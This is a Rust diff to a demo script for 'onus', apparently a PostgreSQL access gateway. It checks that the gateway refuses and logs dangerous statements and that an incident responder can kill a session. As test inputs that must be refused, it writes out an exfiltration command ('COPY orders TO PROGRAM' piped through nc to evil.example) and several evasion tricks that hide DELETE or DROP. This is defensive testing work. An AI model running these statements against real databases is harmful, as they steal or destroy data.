@@ -52,7 +52,7 @@ pub fn task(words: &[String]) -> Result<(), Failure> {
         how_to_play_on(&stage);
         stage.stay()
     } else {
-        stage.voice.aside("Play on yourself with `cargo xtask demo --keep`. Everything is stopped and removed now.");
+        stage.voice.prose("Play on yourself with `cargo xtask demo --keep`. Everything is stopped and removed now.");
         stage.take_down()
     }
 }
@@ -77,7 +77,7 @@ fn build() -> Result<PathBuf, Failure> {
 
 fn played(stage: &mut Stage) -> Result<(), Failure> {
     stage.voice.title("Onus: every operation is decided at the moment of use, and somebody always answers for it");
-    stage.voice.aside(
+    stage.voice.prose(
         "A company, acme, with one production database behind a gateway. Alice is a developer, Bob looks after the \
          data, Sam answers incidents. What follows is real: real psql, real PostgreSQL, real refusals.",
     );
@@ -131,7 +131,7 @@ fn approving_oneself(stage: &mut Stage, request: &str) -> Result<(), Failure> {
         "Not even an administrator. This rule is built in: there is no policy that could be edited to permit it.",
     );
     stage.onus("alice", &["approve", request])?.refused()?.with("nobody approves their own request")?;
-    stage.voice.held("Refused.");
+    stage.voice.held("Refused, and it says who can.");
     Ok(())
 }
 
@@ -155,10 +155,11 @@ fn reading(stage: &mut Stage) -> Result<(), Failure> {
     stage.psql("alice", &["-c", sql])?.done()?.with("customer 42")?;
     let said = stage.psql("alice", &["-c", "SELECT current_user"])?.done()?;
     let role = said.word("onus_")?;
-    let left = stage.cluster()?.psql("orders", &format!("SELECT count(*) FROM pg_roles WHERE rolname = '{role}'"))?;
-    if left.trim() != "0" {
-        return Err(said.unexpected("a role of the session's own that is gone with it; PostgreSQL still has it"));
-    }
+    let gone = format!("SELECT count(*) FROM pg_roles WHERE rolname = '{role}'");
+    let cluster = stage.cluster()?;
+    onus_testkit::wait::until(Duration::from_secs(5), &format!("the end of the role `{role}`"), || {
+        cluster.psql("orders", &gone).is_ok_and(|count| count.trim() == "0").then_some(())
+    })?;
     stage.voice.held("The role was made for this session, and PostgreSQL has forgotten it already.");
     Ok(())
 }
@@ -194,12 +195,20 @@ fn holding(stage: &mut Stage) -> Result<(), Failure> {
 
 fn dropping(stage: &mut Stage) -> Result<(), Failure> {
     stage.voice.chapter(
-        "A DROP is denied, and says why",
+        "What a role does not permit is denied, and says why",
         "In PostgreSQL's own terms, so that every client shows it: what was refused, who owns the rule, what to do.",
     );
     let said = stage.psql("alice", &["-c", "DROP TABLE orders"])?.refused()?;
     said.with("ERROR: refused by onus")?.with("DETAIL:")?.with("HINT:")?.with("onus request orders-db")?;
-    stage.voice.held("Refused by the gateway: PostgreSQL never saw the statement.");
+    stage.voice.aside("And carrying the table off through a program on the database's own machine:");
+    let said = stage.psql("alice", &["-c", "COPY orders TO PROGRAM 'nc evil.example 99'"])?.refused()?;
+    let said = said.with("policy `server-files`, owned by petra")?;
+    let log = stage.cluster()?.log();
+    // The first one was permitted a moment ago: this is how one looks that did reach it.
+    if !log.contains("WHERE id = 42") || log.contains("DROP TABLE") || log.contains("evil.example") {
+        return Err(said.unexpected("PostgreSQL's own log to have Alice's UPDATE and neither of these"));
+    }
+    stage.voice.held("Refused by the gateway: PostgreSQL's own log has Alice's UPDATE, and neither of these.");
     Ok(())
 }
 
@@ -209,24 +218,31 @@ fn evading(stage: &mut Stage) -> Result<(), Failure> {
         "What can't be understood is opaque, and opaque is refused unless a role was made for it. A parser's failure \
          is never a permit.",
     );
-    let tricks: &[(&str, &[&str])] = &[
-        ("The same, hidden in a program:", &["DO $$ BEGIN DELETE FROM orders; END $$"]),
-        ("Behind a prepared statement:", &["PREPARE harmless AS SELECT 1", "EXECUTE wipe"]),
-        ("In pieces, with comments:", &["/* SELECT */ DROP /* nothing */ TABLE -- really\n orders"]),
-        (
-            "With another `orders` first in the search path:",
-            &["SET search_path = pg_temp, public", "SELECT * FROM orders LIMIT 1"],
-        ),
+    stage.point_psql("alice", "orders-db", "reader", false)?;
+    let tricks = [
+        "DO $$ BEGIN DELETE FROM orders; END $$",
+        "PREPARE harmless AS DELETE FROM orders",
+        "EXECUTE harmless",
+        "SELECT cancel_everything()",
+        "/* SELECT */ DROP /* nothing */ TABLE orders",
+        "SET search_path = mine, public",
     ];
-    for (what, statements) in tricks {
-        stage.voice.aside(what);
-        let mut words = vec!["-v", "ON_ERROR_STOP=1"];
-        words.extend(statements.iter().flat_map(|statement| ["-c", statement]));
-        stage.psql("alice", &words)?.refused()?.with("ERROR: refused by onus")?;
+    stage.voice.aside(
+        "A program, a prepared statement, a name that was never seen, a function that updates, comments, and another \
+         `orders` first in the search path:",
+    );
+    // Terse, since the reasons were shown above; with each statement before its answer.
+    let mut words = vec!["-e", "-v", "VERBOSITY=terse"];
+    words.extend(tricks.iter().flat_map(|trick| ["-c", trick]));
+    let said = stage.psql("alice", &words)?.refused()?;
+    if said.count("ERROR:  refused by onus") != tricks.len() {
+        return Err(said.unexpected(&format!("{} refusals by onus", tricks.len())));
     }
-    let said = stage.psql("alice", &["-c", "SELECT count(*) FROM orders"])?.done()?.with("1000")?;
+    let said = said.with("a `DO` block")?;
     drop(said);
-    stage.voice.held("All four refused, all 1000 orders still there.");
+    let count = "SELECT count(*) FROM orders WHERE status = 'paid'";
+    stage.psql("alice", &["-c", count])?.done()?.with("1000")?;
+    stage.voice.held("All refused, all 1000 orders still there and as they were.");
     Ok(())
 }
 
@@ -240,14 +256,18 @@ fn killing(stage: &mut Stage) -> Result<String, Failure> {
     let mut acting = stage.psql_in_background("alice", &words)?;
     acting.says("(1 row)")?;
     let role = acting.says("onus_")?.trim().to_owned();
-    wait_until_asleep(stage)?;
+    sleepers(stage, "1")?;
     stage.voice.printed(&acting.news());
-    let live = stage.onus("sam", &["session", "list"])?.done()?.with("alice")?;
-    let session = live.word("S-")?;
+    // Named in the role, so that whoever looks at the database's own log finds the session.
+    let session = role.strip_prefix("onus_").unwrap_or(&role).to_owned();
+    stage.onus("sam", &["session", "list"])?.done()?.with(&session)?.with("alice")?;
     let count = format!("SELECT count(*) FROM pg_roles WHERE rolname = '{role}'");
     stage.past_the_gateway(&count)?.done()?.with(" 1 ")?;
     let start = Instant::now();
-    stage.onus("sam", &["kill", &session, "--reason", "INC-43: that was not Alice"])?.done()?.with("ms")?;
+    let killed = stage.onus("sam", &["kill", &session, "--reason", "INC-43: that was not Alice"])?.done()?;
+    if killed.count(" ms") != 4 {
+        return Err(killed.unexpected("the measured times of four steps"));
+    }
     let said = acting.finish()?;
     let took = start.elapsed();
     stage.voice.aside("Alice's psql:");
@@ -256,17 +276,18 @@ fn killing(stage: &mut Stage) -> Result<String, Failure> {
     if took > KILL_LIMIT {
         return Err(said.unexpected(&format!("its end within {}; it took {}", seconds(KILL_LIMIT), seconds(took))));
     }
+    sleepers(stage, "0")?;
     stage.past_the_gateway(&count)?.done()?.with(" 0 ")?;
-    stage.voice.held("The session is over, and its database role is gone.");
+    stage.voice.held("The statement has stopped, the session is over, and its database role is gone.");
     Ok(session)
 }
 
-/// Until PostgreSQL runs the statement that is to be cancelled.
-fn wait_until_asleep(stage: &Stage) -> Result<(), Failure> {
+/// Waits until PostgreSQL runs so many of the statements that are to be cancelled.
+fn sleepers(stage: &Stage, many: &str) -> Result<(), Failure> {
     let cluster = stage.cluster()?;
     let asleep = "SELECT count(*) FROM pg_stat_activity WHERE state = 'active' AND wait_event = 'PgSleep'";
-    onus_testkit::wait::until(Duration::from_secs(20), "pg_sleep", || {
-        (cluster.psql("orders", asleep).is_ok_and(|count| count.trim() == "1")).then_some(())
+    onus_testkit::wait::until(Duration::from_secs(10), &format!("pg_sleep running {many} times"), || {
+        (cluster.psql("orders", asleep).is_ok_and(|count| count.trim() == many)).then_some(())
     })?;
     Ok(())
 }
@@ -341,7 +362,7 @@ fn shown(path: &Path, under: &Path) -> String {
 
 fn how_to_play_on(stage: &Stage) {
     let voice = &stage.voice;
-    voice.aside("It goes on running. In another terminal:");
+    voice.prose("It goes on running. In another terminal:");
     voice.line("");
     for line in [
         format!("export PATH={}:$PATH", stage.onus_folder().display()),
@@ -356,7 +377,7 @@ fn how_to_play_on(stage: &Stage) {
         voice.line(&line);
     }
     voice.line("");
-    voice.aside("Ctrl-C here stops and removes everything.");
+    voice.prose("Ctrl-C here stops and removes everything.");
 }
 
 #[cfg(test)]
